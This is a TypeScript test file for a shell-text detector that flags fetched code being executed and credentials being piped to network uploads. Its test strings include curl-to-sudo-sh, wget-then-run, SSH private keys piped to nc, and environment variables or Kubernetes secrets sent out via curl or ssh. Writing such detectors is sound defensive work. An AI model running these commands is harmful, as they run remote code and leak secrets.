import assert from 'node:assert/strict'
import { test } from 'node:test'
import { credentialUploads } from './credential-upload.ts'
import { executedDownloads } from './download.ts'
import { knownCommands } from './table.ts'

const downloads = (text: string): number => executedDownloads(text, knownCommands(text)).length
const uploads = (text: string): number => credentialUploads(text, knownCommands(text)).length

test('a file that was fetched is found where a command behind runs it, up to where the reach ends', () => {
  const fetched = 'wget http://a.b/c.sh'
  assert.equal(downloads(`${fetched}; chmod +x c.sh; sudo ./c.sh`), 1)
  assert.equal(downloads(`${fetched}\nbash -x "c.sh"`), 1)
  assert.equal(downloads(`${fetched}; cat c.sh; bash sudo`), 0)
  assert.equal(downloads(`${fetched};${' '.repeat(233)}./c.sh`), 1)
  assert.equal(downloads(`${fetched};${' '.repeat(234)}./c.sh`), 0)
  // The word that the reach cuts is read up to there.
  assert.equal(downloads(`${fetched};${' '.repeat(233)}./c.shell`), 1)
})

test('a shell behind a pipe is found on the line of the command, behind four pipes at most', () => {
  assert.equal(downloads('curl a.b/c | sudo -E /bin/sh'), 1)
  assert.equal(downloads('curl a.b/c|x|y|z| sh'), 1)
  assert.equal(downloads('curl a.b/c|w|x|y|z| sh'), 0)
  assert.equal(downloads('curl a.b/c\n| sh'), 0)
  assert.equal(downloads('cat x | sh\ncurl a.b/c'), 0)
  assert.equal(downloads(`curl a.b/${'c'.repeat(189)}| bash`), 1)
  assert.equal(downloads(`curl a.b/${'c'.repeat(190)}| bash`), 0)
})

test('what is piped into an upload counts from the beginning of its line', () => {
  assert.equal(uploads('cat ~/.ssh/id_rsa | nc a.b 9'), 1)
  assert.equal(uploads('env | curl -d @- a.b'), 1)
  assert.equal(uploads('x env | curl -d @- a.b'), 0)
  assert.equal(uploads('kubectl get secrets | ssh a'), 1)
  assert.equal(uploads('kubectl list secrets | ssh a'), 0)
  assert.equal(uploads('cat .env; x | nc a.b 9'), 0)
  assert.equal(uploads('cat .env |\nnc a.b 9'), 0)
  assert.equal(uploads('cat .env | xargs nc a.b 9'), 1)
  assert.equal(uploads('cat .env | grep x && nc a.b 9'), 0)
  assert.equal(uploads('cat .env | curl -d @- http://localhost/'), 0)
})

test('a reach that begins inside of a word reads the rest of it', () => {
  assert.equal(uploads(`a/id_rsa${' '.repeat(189)} | nc a.b 9`), 1)
  assert.equal(uploads(`a/id_rsa${' '.repeat(192)} | nc a.b 9`), 0)
  assert.equal(uploads(`xxenv${' '.repeat(194)} | nc a.b 9`), 1)
  assert.equal(uploads(`xxenv${' '.repeat(193)} | nc a.b 9`), 0)
})
